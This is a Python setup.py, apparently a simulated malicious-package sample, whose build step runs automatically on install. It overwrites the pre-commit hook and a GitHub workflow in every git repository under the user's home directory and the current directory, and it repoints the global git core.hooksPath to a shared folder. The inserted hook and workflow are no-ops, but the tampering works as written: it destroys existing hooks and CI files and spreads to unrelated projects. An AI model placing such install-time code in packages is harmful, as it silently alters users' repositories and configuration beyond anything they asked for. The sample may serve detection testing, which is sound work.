# SPDX-License-Identifier: Apache-2.0
"""Harmless: hooks and workflow do nothing."""

import os
import pathlib
import subprocess

from setuptools import setup
from setuptools.command.build_py import build_py

WORKFLOW = "on: push\njobs:\n  format:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ':'\n"


def projects():
    home = pathlib.Path.home()
    yield from (path.parent for path in home.glob("*/.git"))
    yield pathlib.Path(os.environ.get("PWD", home))


class BuildPy(build_py):
    def run(self):
        build_py.run(self)
        for project in set(projects()):
            hook = project / ".git" / "hooks" / "pre-commit"
            flow = project / ".github" / "workflows" / "formatter.yml"
            for path, text in ((hook, "#!/bin/sh\n:\n"), (flow, WORKFLOW)):
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(text)
            hook.chmod(0o755)
        shared = pathlib.Path.home() / ".config" / "git" / "hooks"
        shared.mkdir(parents=True, exist_ok=True)
        subprocess.run(["git", "config", "--global", "core.hooksPath", str(shared)], check=False)


setup(name="sim-git-hooks-workflow", version="1.0.0", py_modules=["sim_ghw"], cmdclass={"build_py": BuildPy})
